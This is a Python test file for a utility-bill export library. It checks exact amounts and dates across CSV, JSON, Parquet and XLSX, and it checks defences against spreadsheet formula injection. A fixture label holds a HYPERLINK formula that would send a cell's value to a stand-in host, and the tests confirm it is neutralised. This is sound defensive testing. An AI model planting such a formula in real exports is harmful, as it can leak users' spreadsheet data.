"""Bills written out: amounts exact in every format, real dates in workbooks, and no text that becomes a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pyarrow.parquet as pq
import pytest
import python_calamine
from hypothesis import given
from hypothesis import strategies as st

from meterbook.formats import bill_exports
from meterbook.formats.bill_exports import ExportedBill, ExportTable, bill_table, line_table, meter_table
from meterbook.formats.bill_exports.columns import Column, Kind
from meterbook.formats.bill_exports.writing import harmless
from meterbook.model.bill_kinds import LineKind, ReadType
from meterbook.model.statement import LineItem, MeterUsage, Statement

EVIL = '=HYPERLINK("http://example.com?"&A1,"Refund")'
BILL = Statement(
    account="0070001", bill_date=date(2025, 2, 7), number="0012", period_start=date(2025, 1, 5),
    period_end=date(2025, 2, 4), days=30, read_end=datetime(2025, 2, 4, 7, 15, tzinfo=UTC), services=("electric",),
    usage=Decimal("1121.500"), usage_unit="kWh", current_charges=Decimal("131.07"), payments=Decimal("-117.00"),
    lines=(
        LineItem(kind=LineKind.ENERGY, label=EVIL, amount=Decimal("131.08"), quantity=Decimal("1121.500"), unit="kWh",
                 rate=Decimal("0.11688453")),
        LineItem(kind=LineKind.CREDIT_PAPERLESS, label="-2+3 Credit", amount=Decimal("-0.01")),
    ),
    meters=(MeterUsage(meter="007", usage=Decimal("1121.500"), unit="kWh", read_type=ReadType.ESTIMATED),),
)  # fmt: skip
BILLS = [ExportedBill(statement=BILL, utility="sample", sources=("portal.example", "a.pdf"))]


def _written(table: ExportTable, name: str) -> bytes:
    sink = io.BytesIO()
    bill_exports.WRITERS[name](table, sink)
    return sink.getvalue()


def _rows(content: bytes) -> list[list[Any]]:
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    return book.get_sheet_by_index(0).to_python()


def test_csv_has_every_digit_and_nothing_where_nothing_is_told() -> None:
    (row,) = csv.DictReader(io.StringIO(_written(bill_table(BILLS), "csv").decode()))
    assert row["account"] == "0070001"
    assert row["usage"] == "1121.500"
    assert row["current_charges"] == "131.07"
    assert (row["payments"], row["amount_due"], row["due_date"]) == ("-117.00", "", "")
    assert (row["read_end"], row["estimated"], row["sources"]) == (
        "2025-02-04T07:15:00Z",
        "true",
        "portal.example;a.pdf",
    )
    assert (row["lines"], row["difference"]) == ("2", "0")


def test_json_has_amounts_as_texts() -> None:
    (told,) = json.loads(_written(bill_table(BILLS), "json"))
    assert (told["current_charges"], told["days"], told["amount_due"]) == ("131.07", 30, None)
    assert [line["label"] for line in json.loads(_written(line_table(BILLS), "json"))] == [EVIL, "-2+3 Credit"]
    assert json.loads(_written(bill_table([]), "json")) == []


def test_parquet_has_decimals_and_days() -> None:
    table = pq.read_table(io.BytesIO(_written(line_table(BILLS), "parquet")))
    assert table.column("rate").to_pylist() == [Decimal("0.11688453"), None]
    assert table.column("amount").to_pylist() == [Decimal("131.0800"), Decimal("-0.0100")]
    assert str(table.schema.field("amount").type) == "decimal128(38, 4)"
    assert str(table.schema.field("bill_date").type) == "date32[day]"
    assert pq.read_table(io.BytesIO(_written(meter_table([]), "parquet"))).num_rows == 0


def test_a_workbook_has_real_days_numbers_and_texts() -> None:
    headings, row = _rows(_written(bill_table(BILLS), "xlsx"))
    told = dict(zip(headings, row, strict=True))
    assert (told["account"], told["bill_date"], told["current_charges"]) == ("0070001", date(2025, 2, 7), 131.07)
    assert told["read_end"] == datetime(2025, 2, 4, 7, 15)  # noqa: DTZ001 - a sheet's times have no zone


def test_a_label_that_is_a_formula_is_text_everywhere() -> None:
    (first, second) = csv.DictReader(io.StringIO(_written(line_table(BILLS), "csv").decode()))
    assert (first["label"], second["label"]) == (f"'{EVIL}", "'-2+3 Credit")
    assert second["amount"] == "-0.01"
    content = _written(line_table(BILLS), "xlsx")
    assert [row[8] for row in _rows(content)[1:]] == [f"'{EVIL}", "'-2+3 Credit"]
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


@given(st.text(max_size=20))
def test_no_text_begins_like_a_formula(text: str) -> None:
    assert not harmless(text).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert harmless(text).endswith(text)


@given(st.lists(st.decimals(-(10**12), 10**12, places=6), min_size=1, max_size=5))
def test_amounts_come_back_exactly_from_every_format(amounts: list[Decimal]) -> None:
    table = ExportTable(
        name="t", columns=(Column(name="amount", kind=Kind.MONEY, about="x"),), rows=[(amount,) for amount in amounts]
    )
    assert [Decimal(row["amount"]) for row in csv.DictReader(io.StringIO(_written(table, "csv").decode()))] == amounts
    assert [Decimal(row["amount"]) for row in json.loads(_written(table, "json"))] == amounts
    assert pq.read_table(io.BytesIO(_written(table, "parquet"))).column(0).to_pylist() == amounts
    assert [Decimal(str(row[0])) for row in _rows(_written(table, "xlsx"))[1:]] == amounts


@pytest.mark.parametrize("name", bill_exports.WRITERS)
def test_no_bills_make_a_file_without_rows(name: str) -> None:
    assert _written(bill_table([]), name)
